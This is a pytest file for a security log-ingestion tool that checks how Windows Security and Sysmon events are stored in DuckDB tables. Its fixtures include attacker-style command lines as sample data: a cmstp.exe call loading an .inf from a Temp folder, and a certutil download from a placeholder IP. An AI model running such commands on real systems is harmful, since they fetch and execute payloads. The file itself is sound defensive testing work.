"""The compact RawEvents store: fields kept as JSON text, ``RawEvents`` a view whose ``Fields`` is still the map.

Everything downstream (Sigma routes, the hunt, verify) reads ``Fields['Name']`` from RawEvents; these tests hold
the view to the values and spellings the MAP-typed table gave, and the typed tables' leftover columns to the
fields no column used.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from assay.engine import DuckDBEngine
from assay.errors import EngineError
from assay.ingest import ingest_paths
from assay.ingest.mapping import SYSTEM_FIELD_KEYS, builtin_mappings
from assay.ingest.writer import RAW_EVENT_STORE, document_order, raw_events_is_compact

SECURITY_4688: dict[str, Any] = {"Event": {"System": {
    "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing",
                                 "Guid": "54849625-5478-4994-A5BA-3E3B0328C30D"}},
    "EventID": 4688, "TimeCreated": {"#attributes": {"SystemTime": "2019-02-13T18:01:47.562412Z"}},
    "EventRecordID": 3, "Channel": "Security", "Computer": "PC01.example.corp"},
    "EventData": {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "PC01$", "SubjectDomainName": "EXAMPLE",
                  "SubjectLogonId": "0x3e7", "NewProcessId": "0x1fc",
                  "NewProcessName": "C:\\Windows\\System32\\TSTheme.exe", "TokenElevationType": "%%1936",
                  "ProcessId": "0x278", "CommandLine": ""}}}
SECURITY_5156: dict[str, Any] = {"Event": {"System": {
    "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}},
    "EventID": 5156, "TimeCreated": {"#attributes": {"SystemTime": "2019-02-13T18:01:48.010071Z"}},
    "EventRecordID": 4, "Channel": "Security", "Computer": "PC01.example.corp"},
    "EventData": {"ProcessID": 820, "Application": "\\device\\harddiskvolume1\\windows\\system32\\svchost.exe",
                  "Direction": "%%14593", "SourceAddress": "10.0.2.17", "SourcePort": "49263",
                  "DestAddress": "10.0.2.15", "DestPort": "88", "Protocol": "6", "FilterRTID": "0",
                  "LayerName": "%%14611", "LayerRTID": "48", "RemoteUserID": "S-1-0-0",
                  "Signed": True, "Layers": {"Name": "ALE Receive/Accept", "Ids": [44, 48]}, "Empty": None}}}
SYSMON_1: dict[str, Any] = {"Event": {"System": {
    "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1,
    "TimeCreated": {"#attributes": {"SystemTime": "2026-11-24T08:41:07.512304Z"}}, "EventRecordID": 48397,
    "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "FIN-WS042.corp.contoso.com"},
    "EventData": {"RuleName": "-", "UtcTime": "2026-11-24 08:41:07.512",
                  "ProcessGuid": "{4b0c6e3a-4f1c-6743-5a02-000000000b00}", "ProcessId": 4928,
                  "Image": "C:\\Windows\\System32\\cmstp.exe", "FileVersion": "7.2.19041.1 (WinBuild.160101.0800)",
                  "CommandLine": "cmstp.exe  /s /ns C:\\Users\\j.martin\\AppData\\Local\\Temp\\x.inf",
                  "User": "CONTOSO\\j.martin", "LogonGuid": "{4b0c6e3a-4e88-6743-e3b1-0a0000000000}",
                  "TerminalSessionId": 1, "IntegrityLevel": "Medium", "ParentProcessId": 4868,
                  "ParentImage": "C:\\Windows\\System32\\cmd.exe", "Hashes": "SHA256=6A1EB1C2C1F5F3A2"}}}


def _ingest(tmp_path: Path, events: list[Any]) -> DuckDBEngine:
    target = tmp_path / "events.jsonl"
    target.write_text("".join(json.dumps(e) + "\n" for e in events), encoding="utf-8")
    engine = DuckDBEngine(None)
    ingest_paths([target], engine=engine, compact_fields=True)
    return engine


def test_fields_lookup_on_the_view_keeps_type_and_spellings(tmp_path: Path) -> None:
    engine = _ingest(tmp_path, [SECURITY_5156, SYSMON_1])
    assert raw_events_is_compact(engine.connection)
    rows = engine.run("SELECT typeof(Fields), Fields['ProcessID'], Fields['Signed'], Fields['Layers'], "
                      "Fields['Empty'], Fields['NoSuchField'], Fields['DestPort'] FROM RawEvents "
                      "WHERE EventID = 5156").rows
    # Numbers as their JSON text, booleans true/false, nested values minified, JSON null and absent keys NULL.
    assert list(rows) == [("MAP(VARCHAR, VARCHAR)", "820", "true", '{"Name":"ALE Receive/Accept","Ids":[44,48]}',
                     None, None, "88")]
    sysmon = engine.run("SELECT Fields FROM RawEvents WHERE EventID = 1").rows[0][0]
    assert sysmon["ProcessId"] == "4928" and sysmon["Image"] == "C:\\Windows\\System32\\cmstp.exe"
    assert list(sysmon) == list(SYSMON_1["Event"]["EventData"])
    engine.close()


def test_view_equals_the_map_table_row_for_row(shared_data: Path, tmp_path: Path) -> None:
    """The same recordings into a database file (compact, the default there) and into memory (a MAP table, the
    default there): RawEvents and every typed table hold the same values."""
    files: list[str | Path] = [str(f) for f in sorted((shared_data / "evtx-attack-samples").rglob("*.evtx"))[:40]]
    as_map = DuckDBEngine(None)
    ingest_paths(files, engine=as_map)
    assert not raw_events_is_compact(as_map.connection)
    compact = DuckDBEngine(tmp_path / "case.duckdb")
    ingest_paths(files, engine=compact)
    assert raw_events_is_compact(compact.connection)
    query = ("SELECT AssayEventId, Timestamp, Channel, Provider, EventID, Computer, SourceRecord, Fields "
             "FROM RawEvents ORDER BY AssayEventId")
    expected, actual = as_map.run(query).rows, compact.run(query).rows
    assert len(actual) > 1000 and actual == expected
    for table in ("DeviceProcessEvents", "DeviceRegistryEvents", "DeviceImageLoadEvents", "SecurityEvent"):
        query = f'SELECT * FROM "{table}" ORDER BY AssayEventId'
        assert compact.run(query).rows == as_map.run(query).rows, table
    as_map.close()
    compact.close()


def test_an_existing_map_table_moves_into_the_store(tmp_path: Path) -> None:
    database = tmp_path / "case.duckdb"
    with DuckDBEngine(database) as engine:
        engine.connection.execute(
            'INSERT INTO "RawEvents" ("AssayEventId", "Timestamp", "Channel", "Provider", "EventID", "Computer", '
            '"SourceFile", "SourceRecord", "SourceFormat", "Fields") VALUES (1, TIMESTAMP \'2026-03-02 09:14:07\', '
            "'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 1, 'WS-FIN-042.corp.example', "
            "'earlier.evtx', 17, 'evtx', map(['Image', 'CommandLine', 'Note'], "
            "['C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f http://198.51.100.7/a a', NULL]))")
    events = tmp_path / "events.jsonl"
    events.write_text(json.dumps(SYSMON_1) + "\n", encoding="utf-8")
    with DuckDBEngine(database) as engine:
        ingest_paths([events], engine=engine)
    with DuckDBEngine(database) as engine:  # opening it again must not bring back a RawEvents table
        assert raw_events_is_compact(engine.connection)
        rows = engine.run("SELECT AssayEventId, SourceFile, Fields['Image'], Fields['Note'], "
                          "cardinality(Fields) FROM RawEvents ORDER BY AssayEventId").rows
        assert rows[0] == (1, "earlier.evtx", "C:\\Windows\\System32\\certutil.exe", None, 3)
        assert rows[1][0] == 2 and rows[1][2] == "C:\\Windows\\System32\\cmstp.exe"
        assert engine.row_count(RAW_EVENT_STORE) == 2


def test_leftover_fields_are_the_unused_ones_with_exact_names(tmp_path: Path) -> None:
    """SecurityEvent consumes ProcessId; 5156's ProcessID (another field, other case) must stay a leftover."""
    engine = _ingest(tmp_path, [SECURITY_4688, SECURITY_5156])
    rows = engine.run("SELECT EventID, ProcessId, EventData FROM SecurityEvent ORDER BY EventID").rows
    by_event = {event_id: (process_id, json.loads(extra)) for event_id, process_id, extra in rows}
    assert by_event[4688][1] == {}
    assert by_event[5156][1]["ProcessID"] == "820"  # text, as Fields spells it
    assert by_event[5156][1]["Signed"] == "true" and "Empty" not in by_event[5156][1]
    mapping = next(m for m in builtin_mappings() if m.name == "security-all-securityevent")
    fields = engine.run("SELECT Fields FROM RawEvents WHERE EventID = 5156").rows[0][0]
    expected = {k: v for k, v in fields.items()
                if k not in mapping.consumed_fields | set(SYSTEM_FIELD_KEYS) and v not in (None, "")}
    assert by_event[5156][1] == expected
    engine.close()


def test_additional_fields_equal_the_map_on_real_data(shared_data: Path) -> None:
    folder = shared_data / "evtx-attack-samples"
    files = sorted(folder.rglob("*.evtx"))[:80]
    engine = DuckDBEngine(None)
    ingest_paths([str(f) for f in files], engine=engine, compact_fields=True)
    checked = 0
    for mapping in builtin_mappings():
        if mapping.leftover_column is None:
            continue
        rows = engine.run(f'SELECT t."{mapping.leftover_column}", r.Fields FROM "{mapping.table}" t JOIN '
                          f"(SELECT AssayEventId, Fields FROM RawEvents WHERE {mapping.where_sql()}) r "
                          "USING (AssayEventId)").rows
        excluded = mapping.consumed_fields | set(SYSTEM_FIELD_KEYS)
        for extra, fields in rows:
            if fields is None:
                continue
            expected = {k: v for k, v in fields.items() if k not in excluded and v not in (None, "")}
            assert json.loads(extra) == expected, f"{mapping.name}: {extra} vs {expected}"
            checked += 1
    assert checked > 1000
    engine.close()


def test_document_order_merges_schema_versions() -> None:
    # Sysmon 13 without RuleName (old schema), with it, and with EventType added: one order keeps all three.
    orders = [["ProcessGuid", "TargetObject"], ["RuleName", "ProcessGuid", "TargetObject"],
              ["RuleName", "EventType", "ProcessGuid", "TargetObject", "Details"]]
    assert document_order(orders) == ["RuleName", "EventType", "ProcessGuid", "TargetObject", "Details"]
    # Lists that disagree still give every key once, the commonest list's order first.
    assert document_order([["Image", "User"], ["User", "Image"]]) == ["Image", "User"]


def test_a_failing_mapping_names_itself_and_keeps_the_database_usable(tmp_path: Path) -> None:
    database = tmp_path / "case.duckdb"
    good = tmp_path / "good.jsonl"
    good.write_text(json.dumps(SYSMON_1) + "\n", encoding="utf-8")
    with DuckDBEngine(database) as engine:
        ingest_paths([good], engine=engine)
        assert (engine.row_count("RawEvents"), engine.row_count("DeviceProcessEvents")) == (1, 1)
        # A mapping statement failing (here: a column it writes dropped under it) is reported with its name; it
        # commits nothing, the events stay in RawEvents, and the database takes the next ingest.
        engine.connection.execute('ALTER TABLE "DeviceProcessEvents" DROP COLUMN "ProcessIntegrityLevel"')
        with pytest.raises(EngineError, match="ProcessIntegrityLevel"):
            ingest_paths([good], engine=engine)
        assert (engine.row_count("RawEvents"), engine.row_count("DeviceProcessEvents")) == (2, 1)
        engine.connection.execute('ALTER TABLE "DeviceProcessEvents" ADD COLUMN "ProcessIntegrityLevel" VARCHAR')
        summary = ingest_paths([good], engine=engine)
        assert summary.rows_per_table["DeviceProcessEvents"] == 1 and engine.row_count("RawEvents") == 3


def test_event_data_that_is_text_gives_a_null_map_not_a_failing_view(tmp_path: Path) -> None:
    """EventData rendered as a string (even one that starts like an object) is no field map, as in a MAP table."""
    texts = ["{\"Message\": \"payload truncated", "Application hang: wermgr.exe"]
    events = []
    for record, text in enumerate(texts, start=1):
        event = json.loads(json.dumps(SYSMON_1))
        event["Event"]["System"]["EventRecordID"] = record
        event["Event"]["EventData"] = text
        events.append(event)
    events.append(SYSMON_1)
    engine = _ingest(tmp_path, events)
    rows = engine.run("SELECT SourceRecord, Fields['Image'] FROM RawEvents ORDER BY AssayEventId").rows
    assert [r[1] for r in rows] == [None, None, "C:\\Windows\\System32\\cmstp.exe"]
    engine.close()
